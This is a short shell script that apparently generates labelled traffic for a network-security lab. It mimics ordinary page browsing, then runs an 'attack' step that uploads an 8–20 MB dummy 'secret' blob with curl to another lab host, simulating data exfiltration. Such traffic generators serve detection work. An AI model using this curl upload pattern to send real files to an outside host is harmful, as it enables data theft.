# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-curl
# needs: curl nginx
# seconds: 90
# Ten to twenty megabytes go out from a host that else fetches pages.
. $lab/victims.sh

servers() {
	_port=$(choose 80 443)
	victim_site t "$_port"
	site_up u 8080
}

browse() {
	local left=12
	while [ $left -gt 0 ]; do
		left=$((left - 1))
		on b curl -s -o /dev/null "http://$(addr u):8080/$(choose 1k 20k 300k)"
		pause 1000 6000
	done
}

scenario() {
	_mega=$(choose 8 14 20)
	_scheme=http
	[ "$_port" = 80 ] || _scheme=https
	setting options "$_mega MB by $_scheme"
	aside browse
	blob "$work/secret" $((_mega * 1000000))
	pause 8000 15000
	attack b t tcp "$_port" -- timeout 60 curl -sk --limit-rate "$(choose 500k 2M)" \
		-o /dev/null \
		-T "$work/secret" "$_scheme://$(addr t)/upload/$LAB_SEED"
	sleep 10
}
